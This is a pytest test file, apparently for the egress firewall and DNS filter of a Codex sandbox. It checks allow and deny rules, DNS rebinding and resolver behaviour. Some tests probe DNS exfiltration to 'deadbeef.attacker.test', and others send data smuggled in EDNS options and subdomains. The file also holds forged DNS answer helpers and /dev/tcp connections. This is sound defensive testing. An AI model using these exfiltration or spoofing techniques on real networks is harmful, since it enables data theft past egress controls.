"""Which names are open: the rules as people write them, and how names become addresses. What was
asked of the lab's DNS server and what reached the sinks decides."""

import re
import struct
import uuid

import pytest
from conftest import until
from internet import DNS_ADDRESS, NAMES, address_of

GET = "curl -sS -o /dev/null -m 10 "


def reached(sinks):
    return set(sinks.seen())


def knock(*ports):
    """A script that opens a connection to each port of allowed.test and prints what came of it."""
    tried = " ".join(map(str, ports))
    connect = "timeout 5 bash -c 'exec 3<>/dev/tcp/allowed.test/'$p"
    return f"for p in {tried}; do {connect}; echo $?; done"


# The gate takes what comes to these ports, and refuses by an alert and by a status.
WEB = f"{GET} https://allowed.test; echo $?; {GET} -f http://allowed.test; echo $?"
WEB_REFUSED = ["35", "22"]


def test_a_name_is_443_and_80_and_nothing_below_it(shell, sinks, dns):
    dns.add("sub.allowed.test", "45.3.3.3")
    done = shell(
        f"{GET} https://allowed.test; {GET} http://allowed.test; {GET} https://sub.allowed.test",
        allow="allowed.test",
    )
    assert done.status == 6, done
    address = address_of("allowed.test")
    assert reached(sinks) == {("tcp", address, 443), ("tcp", address, 80)}
    assert dns.asked("sub.allowed.test") == []


def test_a_wildcard_is_every_sub_name_and_not_the_name(shell, sinks, dns):
    dns.add("a.wild.test", "45.3.0.1")
    dns.add("b.c.wild.test", "45.3.0.2")
    dns.add("wild.test", "45.3.0.3")
    dns.add("notwild.test", "45.3.0.4")
    done = shell(
        f"for n in a.wild b.c.wild wild notwild; do {GET} https://$n.test; echo $?; done",
        allow="*.wild.test",
    ).ok()
    assert done.lines() == ["0", "0", "6", "6"], done
    assert sinks.addresses() == {"45.3.0.1", "45.3.0.2"}


def test_ports_of_a_rule(shell, sinks):
    done = shell(
        f"{knock(22, 8443)}; {WEB}",
        allow="allowed.test:22,8443",
    ).ok()
    assert done.lines() == ["0", "0", *WEB_REFUSED], done
    address = address_of("allowed.test")
    assert reached(sinks) == {("tcp", address, 22), ("tcp", address, 8443)}


def test_deny_wins_over_allow(shell, sinks, dns):
    dns.add("good.wild.test", "45.4.0.1")
    dns.add("bad.wild.test", "45.4.0.2")
    done = shell(
        f"{GET} https://good.wild.test && {GET} https://bad.wild.test",
        allow="*.wild.test",
        env={"CODEX_INIT_DENY": "bad.wild.test"},
    )
    assert done.status == 6
    assert sinks.addresses() == {"45.4.0.1"}
    assert dns.asked("bad.wild.test") == []


def test_a_final_dot_is_the_same_name(shell, internet, sinks, dns):
    """In rules of either kind, DNS, Host, a hello and CONNECT; two dots are no name anywhere."""
    dns.add("denied.test", "45.4.0.3")
    tried = {
        "http://allowed.test./a": "200",
        "https://allowed.test./b": "200",
        "-p -x http://allowed.test.:80 http://allowed.test.:80/c": "200",
        "-H 'Host: allowed.test.' http://allowed.test/d": "200",
        "http://denied.test./e": "000",
        "-k https://denied.test./f": "000",
        "-H 'Host: denied.test.' http://allowed.test/g": "403",
        "-H 'Host: allowed.test..' http://allowed.test/h": "400",
    }
    done = shell(
        "\n".join(f"curl -sS -m 10 -o /dev/null -w '%{{http_code}}\\n' {what}" for what in tried)
        + "\ntrue",
        allow="ALLOWED.test. denied.test",
        env={"CODEX_INIT_DENY": "denied.test."},
    ).ok()
    assert done.lines() == list(tried.values()), done
    assert sinks.addresses() == {address_of("allowed.test")} and dns.asked("denied.test") == []
    assert [path for _, _, path in internet.web.requests] == ["/a", "/b", "/c", "/d"]


def test_names_with_underscores(shell, internet, sinks, dns):
    """As people give them to buckets: in a rule, below a wildcard, in TLS and in HTTP."""
    dns.add("my_bucket.s3.test", "45.4.1.1")
    dns.add("a_b.wild.test", "45.4.1.2")
    dns.add("denied_.wild.test", "45.4.1.3")
    done = shell(
        f"for n in my_bucket.s3 a_b.wild denied_.wild my-bucket.s3; do"
        f" {GET} http://$n.test/h; echo $?; {GET} https://$n.test/t; echo $?; done",
        allow="my_bucket.s3.test *.wild.test",
        env={"CODEX_INIT_DENY": "denied_.wild.test"},
    ).ok()
    assert done.lines() == ["0"] * 4 + ["6"] * 4, done
    assert sinks.addresses() == {"45.4.1.1", "45.4.1.2"}
    asked = {(host, path) for _, host, path in internet.web.requests}
    assert asked == {(n, p) for n in ("my_bucket.s3.test", "a_b.wild.test") for p in ("/h", "/t")}


def test_long_names_under_a_wildcard(shell, internet, dns):
    """As people give them, in DNS and at the gate alike; not what is data by its look."""
    long = "prod-ap-southeast-1-starport-layer-bucket"
    for name in (f"{long}.s3.test", f"{'0123456789abcdef' * 3}.s3.test"):
        dns.add(name, address_of(name))
    done = shell(
        f"{GET} https://{long}.s3.test; echo $?; {GET} https://{'0123456789abcdef' * 3}.s3.test; echo $?",
        allow="*.s3.test",
    ).ok()
    assert done.lines() == ["0", "6"], done
    assert {q.name for q in dns.asked("s3.test")} == {f"{long}.s3.test"}
    assert internet.web.hosts() == {f"{long}.s3.test"}


def test_a_container_whose_name_has_an_underscore(start, run, network):
    """Engines allow [a-zA-Z0-9_.-] there, and compose makes such names."""
    name, net = f"postgres_{uuid.uuid4().hex[:8]}_db", network()
    serve = "import http.server as h; h.test(h.SimpleHTTPRequestHandler, port=5432)"
    start("python3", "-c", serve, network=net, init=["--egress=off"], name=name)
    get = ("curl", "-sS", "-o", "/dev/null", "--retry-connrefused", "--retry", "20")
    get = (*get, "--retry-delay", "1", "-m", "20", f"http://{name}:5432/")
    assert run(*get, network=net, allow="allowed.test").status == 6
    run(*get, network=net, allow=f"{name}:5432+private").ok()


def test_deny_takes_a_default_name_away(run, sinks):
    assert run("curl", "-sS", "https://chatgpt.com", init=["--deny", "chatgpt.com"]).status == 6
    assert sinks.seen() == []


def test_options_add_to_the_environment(shell, sinks):
    shell(
        f"{GET} https://allowed.test && {GET} https://other.test && {GET} https://example.org",
        allow="allowed.test",
        init=["--allow", "other.test", "--allow=example.org"],
    ).ok()
    assert sinks.addresses() == {
        address_of(n) for n in ("allowed.test", "other.test", "example.org")
    }


def test_no_default_rules(shell, sinks):
    done = shell(
        f"{GET} https://allowed.test; {GET} https://api.openai.com",
        allow="allowed.test",
        init=["--no-default-rules"],
    )
    assert done.status == 6
    assert sinks.addresses() == {address_of("allowed.test")}


def test_a_private_address_for_a_public_name_is_not_believed(shell, sinks, dns, wire):
    """Rebinding: the name is allowed, what it points to isn't."""
    for i, address in enumerate(
        (
            "10.1.2.3",
            "192.168.7.7",
            "169.254.169.254",
            "127.0.0.1",
            "100.64.1.1",
            "172.30.0.1",
            "0.0.0.0",
            "224.0.0.1",
        )
    ):
        dns.add(f"n{i}.inside.test", address)
    dns.add("n8.inside.test", "fd00::5", "::1", "::ffff:10.0.0.1", "64:ff9b::a00:1")
    done = shell(
        f"for i in 0 1 2 3 4 5 6 7 8; do {GET} http://n$i.inside.test; echo $?; done",
        allow="*.inside.test",
    ).ok()
    assert "0" not in done.lines(), done
    assert sinks.seen() == []
    assert wire.to("172.30.0.1") == []
    assert "inside.test" in done.err, done


def test_private_suffix_lets_that_rule_reach_inside(shell, sinks, dns):
    dns.add("registry.corp.test", "10.1.2.3")
    dns.add("wiki.corp.test", "10.1.2.4")
    done = shell(
        f"{GET} https://registry.corp.test; echo $?; {GET} https://wiki.corp.test; echo $?;"
        f"{GET} -k https://10.1.2.3:8443; echo $?",
        allow="registry.corp.test+private wiki.corp.test",
    ).ok()
    assert done.lines()[0] == "0" and "0" not in done.lines()[1:], done
    assert reached(sinks) == {("tcp", "10.1.2.3", 443)}


def test_a_mixed_answer_gives_only_its_public_half(shell, sinks, dns):
    dns.add("mixed.test", "10.0.0.7", "45.5.5.5")
    shell(f"{GET} https://mixed.test; getent ahostsv4 mixed.test", allow="mixed.test").ok()
    assert reached(sinks) == {("tcp", "45.5.5.5", 443)}


def test_presets(shell, sinks, dns):
    for name in ("pypi.org", "files.pythonhosted.org"):
        dns.add(name, address_of(name))
    done = shell(
        f"{GET} https://pypi.org && {GET} https://files.pythonhosted.org && "
        f"{GET} https://crates.io",
        allow="@pypi",
    )
    assert done.status == 6, done
    assert sinks.addresses() == {address_of(n) for n in ("pypi.org", "files.pythonhosted.org")}


def test_a_name_that_does_not_resolve_is_a_warning(run, sinks, dns):
    done = run("curl", "-sS", "https://api.openai.com/", allow="no-such-name.test").ok()
    assert re.search(r"codex-init: resolver: .*no-such-name\.test", done.err), done
    assert sinks.addresses() == {address_of("api.openai.com")}


def test_a_name_that_comes_to_life_later_is_found(start, dns, sinks):
    box = start("sleep", "60", allow="late.test")
    box.until_says("late.test")
    dns.add("late.test", "45.6.6.6")
    get = ("curl", "-sS", "-m", "2", "https://late.test/")
    until(lambda: box.exec(*get, user="1000").status == 0, 40, "late.test's coming to life")
    assert ("tcp", "45.6.6.6", 443) in reached(sinks)


def test_all_names_failing_names_the_upstreams_and_codex_still_starts(run, dns):
    for name in NAMES:
        dns.fail(name, "REFUSED")
    done = run("echo", "started").ok()
    assert done.out == "started\n"
    assert DNS_ADDRESS in done.err and "hint" in done.err, done


def test_require_names_makes_that_fatal(run, dns):
    for name in NAMES:
        dns.fail(name, "REFUSED")
    done = run("echo", "started", init=["--require-names"]).ok(111)
    assert done.out == "" and DNS_ADDRESS in done.err


def test_require_names_is_content_with_working_ones(run):
    run("true", init=["--require-names"]).ok()


def test_add_host_is_honoured(shell, sinks, dns):
    done = shell(
        f"{GET} https://allowed.test && grep 45.7.7.7 /etc/hosts",
        allow="allowed.test",
        options=["--add-host", "allowed.test:45.7.7.7"],
    ).ok()
    assert "45.7.7.7" in done.out
    assert reached(sinks) == {("tcp", "45.7.7.7", 443)}


def test_add_host_does_not_allow_what_no_rule_does(run, sinks):
    done = run(
        "curl",
        "-sS",
        "-m",
        "3",
        "https://other.test",
        options=["--add-host", "other.test:45.7.7.8"],
    )
    assert done.status and done.seconds < 3
    assert sinks.seen() == []


def test_many_names_are_asked_at_once(run, dns):
    """A hundred names, every answer a second late: each question has left before the first answer
    can have come, and PID 1 is through after about one such wait."""
    names = [f"n{i}.many.test" for i in range(100)]
    for i, name in enumerate(names):
        dns.add(name, f"45.8.0.{i + 1}")
        dns.delay(name, 1)
    run("true", allow=" ".join(names)).ok()
    first = {}
    for query in dns.asked("many.test"):
        first.setdefault((query.name, query.type), query.time)
    assert {(name, kind) for name in names for kind in ("A", "AAAA")} == set(first)
    assert max(first.values()) - min(first.values()) < 1


def test_a_lost_question_is_asked_again(run, dns, sinks):
    dns.drop("allowed.test", times=2)
    run("curl", "-sS", "https://allowed.test/", allow="allowed.test").ok()
    assert reached(sinks) == {("tcp", address_of("allowed.test"), 443)}


def test_a_truncated_answer_is_fetched_by_tcp(run, dns, sinks):
    dns.add("big.test", *[f"45.9.0.{i}" for i in range(1, 9)])
    dns.truncate("big.test")
    run("curl", "-sS", "https://big.test/", allow="big.test").ok()
    assert any(q.tcp for q in dns.asked("big.test"))
    assert sinks.addresses() <= {f"45.9.0.{i}" for i in range(1, 9)} and sinks.seen()


def test_an_alias_chain_is_followed(run, dns, sinks):
    for i in range(5):
        dns.alias(f"c{i}.chain.test" if i else "first.test", f"c{i + 1}.chain.test")
    dns.add("c5.chain.test", "45.10.0.1")
    run("curl", "-sS", "https://first.test/", allow="first.test").ok()
    assert reached(sinks) == {("tcp", "45.10.0.1", 443)}


def test_an_alias_does_not_allow_its_target(shell, dns, sinks):
    dns.alias("first.test", "cdn.elsewhere.test")
    dns.add("cdn.elsewhere.test", "45.10.0.2")
    done = shell(
        f"{GET} https://first.test && {GET} https://cdn.elsewhere.test", allow="first.test"
    )
    assert done.status == 6, done


def test_an_alias_that_bites_its_tail_ends(run, dns):
    dns.alias("loop.test", "pool.test")
    dns.alias("pool.test", "loop.test")
    done = run("curl", "-sS", "-m", "5", "https://loop.test/", allow="loop.test")
    assert done.status == 6 and done.seconds < 8


def test_addresses_that_rotate_stay_reachable(shell, dns, sinks):
    """Ten requests, each with its own address of one second's life: none is ever refused."""
    addresses = [f"45.11.0.{i}" for i in range(1, 51)]
    dns.rotate("moving.test", addresses, ttl=1)
    done = shell(
        f"for i in $(seq 10); do {GET} https://moving.test || echo failed; sleep 0.3; done",
        allow="moving.test",
    ).ok()
    assert "failed" not in done.out, done
    assert sinks.addresses() <= set(addresses)


def test_ipv4_only_names_answer_empty_for_ipv6(shell):
    """musl gives up on a name whose AAAA question ends in anything but "no such record"."""
    done = shell("dig +noall +comments api.openai.com AAAA; dig +short api.openai.com AAAA").ok()
    assert "NOERROR" in done.out and "ANSWER: 0" in done.out


REFUSED_LOOKUPS = [
    "dig {name}",
    "dig +tcp {name}",
    "dig @8.8.8.8 {name}",
    "dig @8.8.8.8 +tcp {name}",
    "dig @1.1.1.1 TXT {name}",
    "dig @9.9.9.9 -p 53 ANY {name}",
    "getent hosts {name}",
    "curl -sS -m 3 https://{name}",
    "python3 -c 'import socket; socket.gethostbyname(\"{name}\")'",
    'node -e \'require("dns").lookup("{name}", e => process.exit(e ? 1 : 0))\'',
    "git ls-remote https://{name}/x.git",
]


def test_refused_names_never_leave_the_container(shell, dns, sinks, wire):
    name = "deadbeef.attacker.test"
    dns.add(name, "45.12.0.1")
    script = "\n".join(f'timeout 5 {c.format(name=name)}; echo "# $?"' for c in REFUSED_LOOKUPS)
    done = shell(script).ok()
    statuses = [line for line in done.lines() if line.startswith("# ")]
    assert len(statuses) == len(REFUSED_LOOKUPS)
    assert "# 124" not in statuses, done
    assert dns.asked("attacker.test") == []
    assert not wire.carried(b"deadbeef")
    assert sinks.seen() == []


def test_on_a_user_defined_network_neither(shell, dns, sinks, network):
    name = "deadbeef.attacker.test"
    script = "\n".join(f"timeout 5 {c.format(name=name)}" for c in REFUSED_LOOKUPS) + "\ntrue"
    shell(script, network=network()).ok()
    assert dns.asked("attacker.test") == []
    assert not sinks.carried(b"deadbeef")
    assert sinks.seen() == []


def test_nothing_of_the_clients_question_travels(shell, dns, wire):
    """Letter case, EDNS options and trailing bytes could carry secrets under an allowed name."""
    shell(
        "dig +nocookie +ednsopt=65001:736563726574 ApI.oPeNaI.CoM;"
        "dig +subnet=1.2.3.4 api.openai.com"
    ).ok()
    assert not wire.carried(b"secret")
    assert not wire.carried(b"\3ApI\6oPeNaI\3CoM")
    for query in dns.asked("api.openai.com"):
        assert len(query.wire) <= 12 + 16 + 4 + 11, query


@pytest.mark.parametrize("kind", ["TXT", "ANY", "HTTPS", "SVCB", "NULL", "MX", "TYPE65400"])
def test_other_questions_about_allowed_names_are_empty(shell, dns, kind):
    done = shell(f"dig +noall +comments +answer api.openai.com {kind}").ok()
    assert "ANSWER: 0" in done.out and "status: NOERROR" in done.out, done
    assert {q.type for q in dns.asked("api.openai.com")} <= {"A", "AAAA"}


def test_data_below_an_allowed_name_stays_inside(shell, dns, wire):
    shell("dig TXT secret-data.api.openai.com; dig secret-data.api.openai.com; true").ok()
    assert not wire.carried(b"secret-data")


def test_a_refusal_says_why(shell):
    done = shell("dig +ednsopt=8:00 example.com").ok()
    assert "NXDOMAIN" in done.out
    assert re.search(r"EDE: 15.*example\.com", done.out), done


def answer_for_another_name(query, packet):
    import dns.message
    import dns.rrset

    forged = dns.message.from_wire(packet)
    forged.answer.append(dns.rrset.from_text("other.test.", 60, "IN", "A", "45.13.0.66"))
    forged.additional.append(dns.rrset.from_text("allowed.test.", 60, "IN", "A", "45.13.0.66"))
    return [forged.to_wire()]


def wrong_id(_, packet):
    evil = packet.replace(bytes([45]), bytes([46]))
    return [struct.pack("!H", struct.unpack_from("!H", packet)[0] ^ 1) + evil[2:], packet]


def not_an_answer(query, packet):
    return [query.to_wire(), packet]


def rubbish(_, packet):
    return [b"", b"\0", packet[:11], packet[:2] + b"\xff" * 60, packet[:20], packet]


def pointer_loop(_, packet):
    return [packet[:12] + b"\xc0\x0c" + packet[14:], packet]


@pytest.mark.parametrize(
    "maker", [answer_for_another_name, wrong_id, not_an_answer, rubbish, pointer_loop]
)
def test_a_hostile_answer_is_not_believed(shell, dns, sinks, maker):
    """What comes before the honest answer is dropped, and the honest one still counts."""
    dns.forge("allowed.test", maker)
    shell(f"{GET} https://allowed.test; {GET} -k https://45.13.0.66", allow="allowed.test").ok(35)
    assert sinks.addresses() == {address_of("allowed.test")}


def test_upstream_option_asks_that_server(run, dns, sinks, wire):
    """resolv.conf's server is left alone when another is named."""
    run(
        "curl",
        "-sS",
        "https://api.openai.com/",
        init=["--upstream", DNS_ADDRESS],
        options=["--dns", "45.99.99.99"],
    ).ok()
    assert wire.to("45.99.99.99") == []


def test_a_dead_upstream_is_no_end_where_there_is_another(run, sinks):
    run(
        "curl",
        "-sS",
        "https://api.openai.com/",
        options=["--dns", "45.99.99.99", "--dns", DNS_ADDRESS],
    ).ok()
    assert address_of("api.openai.com") in sinks.addresses()


@pytest.mark.parametrize(
    "tool",
    [
        "curl -sS https://allowed.test/ -o /dev/null",
        "python3 -c 'import urllib.request as u; u.urlopen(\"https://allowed.test/\").read()'",
        "node -e 'fetch(\"https://allowed.test/\").then(r => process.exit(r.ok ? 0 : 1))'",
        'node -e \'require("https").get("https://allowed.test/", r => process.exit(0))\'',
    ],
)
def test_real_tools_reach_allowed_names(shell, sinks, tool):
    shell(tool, allow="allowed.test").ok()
    assert reached(sinks) == {("tcp", address_of("allowed.test"), 443)}


def test_an_international_name(shell, sinks, dns):
    dns.add("xn--bcher-kva.test", "45.14.0.1")
    shell(f"{GET} https://xn--bcher-kva.test", allow="Bücher.test").ok()
    assert sinks.addresses() == {"45.14.0.1"}


def test_answers_are_kept(shell, dns):
    """Codex asks dozens of times a turn and remembers nothing itself."""
    dns.add("allowed.test", address_of("allowed.test"), ttl=300)
    shell("for i in $(seq 30); do getent ahosts allowed.test; done", allow="allowed.test").ok()
    assert len(dns.asked("allowed.test")) <= 4


def test_a_name_outlives_its_servers_for_a_while(start, dns):
    """RFC 8767: what was known is still answered while upstream is down."""
    dns.add("allowed.test", address_of("allowed.test"), ttl=1)
    box = start("sleep", "60", allow="allowed.test")
    ask = ("dig", "+short", "+time=5", "allowed.test")
    until(lambda: box.exec(*ask, user="1000").out.strip() == address_of("allowed.test"))
    dns.drop("*")
    asked = len(dns.asked("allowed.test"))
    # Polled until the cache has had to ask again, in vain.
    until(lambda: box.exec(*ask, user="1000") and len(dns.asked("allowed.test")) > asked, 20)
    assert box.exec(*ask, user="1000").out.strip() == address_of("allowed.test")


def test_search_domains(shell, dns, sinks):
    dns.add("build.corp.test", "45.22.0.1")
    done = shell(
        f"exec 3<>/dev/tcp/build/8080 && {GET} http://nobody",
        allow="build.corp.test:8080",
        options=["--dns-search", "corp.test"],
    )
    assert done.status == 6, done
    assert sinks.addresses() == {"45.22.0.1"}
    assert dns.asked("nobody.corp.test") == []


def test_what_libc_asks_beside_an_allowed_name_is_no_refusal_of_its_own(shell, dns, sinks):
    """ndots as Kubernetes has it: each name goes with every search domain first."""
    done = shell(
        "getent ahosts allowed.test; getent ahosts evil.test; dig +short _http._tcp.allowed.test SRV",
        allow="allowed.test",
        options=["--dns-search", "corp.test", "--dns-opt", "ndots:5"],
    ).ok()
    assert address_of("allowed.test") in done.out
    summary = done.err[done.err.index("codex-init: refused") :]
    assert "allowed.test" not in summary, summary
    assert "--allow evil.test\n" in summary and "--allow evil.test.corp.test\n" in summary
    assert dns.asked("allowed.test.corp.test") == []


def test_a_short_name_is_completed_by_the_gate_too(shell, dns, sinks, internet):
    """On the web's ports the client says what it was given, which DNS completed before."""
    dns.add("build.corp.test", "45.22.0.1")
    done = shell(
        f"{GET} -w '%{{http_code}}\\n' http://build; curl -sS -H 'Host: other' http://build",
        allow="build.corp.test",
        options=["--dns-search", "corp.test"],
    ).ok()
    assert done.lines() == [
        "200",
        "codex-sandbox: other is not allowed; allow it with: --allow other+private",
    ], done
    assert sinks.addresses() == {"45.22.0.1"}
    assert internet.web.hosts() == {"build"}


def test_resolv_conf_does_not_matter(shell, dns, sinks):
    """Whatever server a tool thinks it asks, it is ours that answers."""
    done = shell(
        "dig +short @192.168.1.1 allowed.test; dig +short +tcp @1.1.1.1 allowed.test;"
        "dig +short @127.0.0.1 allowed.test; dig +short @127.0.0.11 allowed.test || true",
        allow="allowed.test",
    ).ok()
    assert done.lines().count(address_of("allowed.test")) >= 3, done
    assert sinks.seen() == []


def test_a_name_that_is_allowed_twice_has_both_ports(shell, sinks):
    done = shell(
        f"{knock(22, 8443)}; {WEB}",
        allow="allowed.test:22",
        init=["--allow", "allowed.test:8443"],
    ).ok()
    assert done.lines() == ["0", "0", *WEB_REFUSED], done


def test_a_denied_port_of_an_allowed_name(shell, sinks):
    done = shell(
        f"{GET} https://allowed.test; echo $?; {GET} -f http://allowed.test; echo $?",
        allow="allowed.test",
        init=["--deny", "allowed.test:80"],
    ).ok()
    assert done.lines() == ["0", "22"], done
    assert reached(sinks) == {("tcp", address_of("allowed.test"), 443)}


def test_a_denied_network_takes_an_allowed_name_with_it(shell, sinks, dns):
    dns.add("allowed.test", "45.23.1.1")
    done = shell(
        f"{GET} https://allowed.test", allow="allowed.test", init=["--deny", "45.23.0.0/16"]
    )
    assert done.status != 0
    assert sinks.seen() == []


def test_the_same_address_behind_a_refused_name_gains_nothing(shell, sinks, dns):
    """Two names on one address: the allowed one opens it, and the other still has no address."""
    dns.add("shared.attacker.test", address_of("allowed.test"))
    done = shell(
        f"{GET} https://allowed.test; {GET} https://shared.attacker.test", allow="allowed.test"
    )
    assert done.status == 6, done
    assert dns.asked("attacker.test") == []
